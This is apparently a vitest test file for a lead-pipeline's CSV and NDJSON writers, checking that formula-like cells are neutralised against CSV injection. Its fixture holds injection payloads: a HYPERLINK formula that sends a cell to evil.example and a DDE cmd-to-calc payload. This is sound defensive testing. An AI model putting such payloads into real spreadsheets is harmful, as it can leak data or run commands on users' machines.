import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  createCsvWriter,
  createLead,
  createNdjsonWriter,
  createRejectsWriter,
  type Lead,
  type LeadSink,
  type RejectedRow,
  type SinkEntry,
} from '../src/index.js';

/** Collects what a writer writes to a stream it does not own. */
function capture(): { readonly stream: PassThrough; text(): string } {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  return { stream, text: () => Buffer.concat(chunks).toString('utf8') };
}

/** Values a spreadsheet runs as formulas (OWASP's list), a phone, and numbers. */
const HOSTILE: Record<string, unknown> = {
  link: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(A1)',
  minus: '-2+3',
  tab: '\tbob@x.com',
  cr: '\rHi',
  phone: '+1 555 0100',
  negativeText: '-42',
  negativeNumber: -42,
  plain: 'Ada',
  quoted: "'=already",
};

const ESCAPED: Record<string, string> = {
  link: '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  dde: "'+cmd|' /C calc'!A0",
  at: "'@SUM(A1)",
  minus: "'-2+3",
  tab: "'\tbob@x.com",
  cr: "'\rHi",
  // Phone numbers beginning with + are neutralised too, as the guidance says: a spreadsheet shows them as text.
  phone: "'+1 555 0100",
  // Text is text: "-42" read from a CSV is neutralised; a number is written as it is.
  negativeText: "'-42",
  negativeNumber: '-42',
  plain: 'Ada',
  quoted: "'=already",
};

function lead(title: string): Lead {
  const created = createLead({ email: 'ada@acme.com' });
  return {
    ...created,
    title,
    provenance: {
      ...created.provenance,
      title: { providerId: 'people', confidence: 0.9, at: created.createdAt, credits: 1 },
    },
  };
}

function entry(values: Record<string, unknown>, title = '=1+1'): SinkEntry {
  return { rowNumber: 1, values, columns: Object.keys(values), lead: lead(title), fields: ['title'] };
}

async function written(
  sink: LeadSink,
  entries: SinkEntry[],
  out: ReturnType<typeof capture>,
): Promise<string> {
  for (const item of entries) await sink.write(item);
  await sink.close?.();
  return out.text();
}

function rejected(values: Record<string, unknown>): RejectedRow {
  return {
    rowNumber: 7,
    line: 8,
    stage: 'validate',
    issues: [{ field: 'email', reason: 'must be an email address' }],
    values,
    columns: Object.keys(values),
  };
}

describe('CSV output neutralises spreadsheet formulas (OWASP CSV injection)', () => {
  it('prefixes a quote to text beginning with = + - @ TAB or CR, in input and enriched columns', async () => {
    const out = capture();
    const text = await written(createCsvWriter(out.stream, { provenance: false }), [entry(HOSTILE)], out);
    const [header, row] = parse(text) as string[][];
    expect(header).toEqual([...Object.keys(HOSTILE), 'title']);
    expect(Object.fromEntries((header ?? []).map((name, index) => [name, row?.[index]]))).toEqual({
      ...ESCAPED,
      title: "'=1+1",
    });
  });

  it('writes every value unchanged with escapeFormulas: false, for files only programs read', async () => {
    const out = capture();
    const sink = createCsvWriter(out.stream, { provenance: false, escapeFormulas: false });
    const [header, row] = parse(await written(sink, [entry(HOSTILE)], out)) as string[][];
    expect(Object.fromEntries((header ?? []).map((name, index) => [name, row?.[index]]))).toEqual({
      ...Object.fromEntries(Object.entries(HOSTILE).map(([key, value]) => [key, String(value)])),
      title: '=1+1',
    });
  });

  it('neutralises header cells too', async () => {
    const out = capture();
    const text = await written(
      createCsvWriter(out.stream, { provenance: false }),
      [entry({ '=cmd': 'x' }, 'CTO')],
      out,
    );
    expect(text.split('\n')[0]).toBe("'=cmd,title");
  });

  it('never alters NDJSON', async () => {
    const out = capture();
    const text = await written(createNdjsonWriter(out.stream, { provenance: false }), [entry(HOSTILE)], out);
    expect(JSON.parse(text)).toEqual({ ...HOSTILE, title: '=1+1' });
  });

  it('rejects files: CSV neutralised by default or kept with escapeFormulas: false; NDJSON unchanged', async () => {
    const csv = capture();
    const rejects = createRejectsWriter(csv.stream);
    await rejects.write(rejected(HOSTILE));
    await rejects.close();
    const [header, row] = parse(csv.text()) as string[][];
    const cells = Object.fromEntries((header ?? []).map((name, index) => [name, row?.[index]]));
    expect(cells).toMatchObject({ ...ESCAPED, leadpipe_row: '7', leadpipe_line: '8' });

    const raw = capture();
    const plain = createRejectsWriter(raw.stream, { escapeFormulas: false });
    await plain.write(rejected(HOSTILE));
    await plain.close();
    const [, rawRow] = parse(raw.text()) as string[][];
    expect(rawRow?.slice(0, 3)).toEqual([HOSTILE.link, HOSTILE.dde, HOSTILE.at]);

    const ndjson = capture();
    const lines = createRejectsWriter(ndjson.stream, { format: 'ndjson' });
    await lines.write(rejected(HOSTILE));
    await lines.close();
    expect(JSON.parse(ndjson.text())).toMatchObject(HOSTILE);
  });
});

describe('writers and headers named like Object.prototype members', () => {
  it('a column the row lacks is blank, not an inherited function or {}', async () => {
    const out = capture();
    const sink = createCsvWriter(out.stream, {
      provenance: false,
      inputColumns: ['email', 'constructor', 'toString', '__proto__'],
    });
    const text = await written(sink, [entry({ email: 'a@x.com' }, 'CTO')], out);
    expect(text).toBe('email,constructor,toString,__proto__,title\na@x.com,,,,CTO\n');
  });

  it('rejects keep a __proto__ value, in CSV extra columns and in NDJSON', async () => {
    const values = JSON.parse('{"email":"x","__proto__":"p","constructor":"c"}') as Record<string, unknown>;
    const csv = capture();
    const rejects = createRejectsWriter(csv.stream);
    // The first row fixes the header; the second's other keys go to leadpipe_extra.
    await rejects.write(rejected({ email: 'y' }));
    await rejects.write(rejected(values));
    await rejects.close();
    const rows = parse(csv.text(), { columns: true }) as Record<string, string>[];
    expect(JSON.parse(rows[1]?.leadpipe_extra ?? '')).toEqual(
      JSON.parse('{"__proto__":"p","constructor":"c"}'),
    );

    const ndjson = capture();
    const lines = createRejectsWriter(ndjson.stream, { format: 'ndjson' });
    await lines.write(rejected(values));
    await lines.close();
    expect(ndjson.text()).toContain('"__proto__":"p","constructor":"c"');
  });
});

describe('a CSV output with no leads', () => {
  it('still gets its header when the input columns are known', async () => {
    const out = capture();
    const sink = createCsvWriter(out.stream, { inputColumns: ['Email', 'Name'], fields: ['title'] });
    expect(await written(sink, [], out)).toBe('Email,Name,title,title__source,title__confidence\n');
  });

  it('stays empty when they are not (no header can be known)', async () => {
    const out = capture();
    expect(await written(createCsvWriter(out.stream), [], out)).toBe('');
  });
});

describe('input columns holding a lead field are written cleaned', () => {
  const withInput = (input: Record<string, string>): Lead => createLead(input);

  it('a TAB before an email is written cleaned in the Email column, so nothing needs neutralising', async () => {
    const out = capture();
    const values = { Email: '\tLauraj@primestack.ai', 'First Name': ' Laura  ', Notes: '\t=1' };
    const sink = createCsvWriter(out.stream, { provenance: false });
    await sink.write({
      rowNumber: 1,
      values,
      columns: Object.keys(values),
      lead: withInput({ email: values.Email, firstName: values['First Name'] }),
      fields: [],
    });
    await sink.close?.();
    // Notes is no lead field: written as it came, neutralised.
    expect(out.text()).toBe("Email,First Name,Notes\nlauraj@primestack.ai,Laura,'\t=1\n");
  });

  it('keeps the cell when the lead value is not its own: another column, a provider, or a real change', async () => {
    const out = capture();
    const values = { 'Work Email': 'OTHER@x.com', Mail: '', Phone: '(202) 555-0100', Company: 'acme' };
    const lead = createLead({ email: 'ada@acme.com', phone: '+1 202 555 0100', companyName: 'acme' });
    const enriched: Lead = {
      ...lead,
      company: { ...lead.company, name: 'Acme' },
      provenance: {
        ...lead.provenance,
        'company.name': { providerId: 'people', confidence: 0.9, at: lead.createdAt, credits: 1 },
      },
    };
    // `Work Email` is mapped to email here, but the lead's email came from elsewhere.
    const sink = createCsvWriter(out.stream, { provenance: false, columns: { 'Work Email': 'email' } });
    await sink.write({ rowNumber: 1, values, columns: Object.keys(values), lead: enriched, fields: [] });
    await sink.close?.();
    expect(out.text()).toBe('Work Email,Mail,Phone,Company\nOTHER@x.com,,(202) 555-0100,acme\n');
  });
});
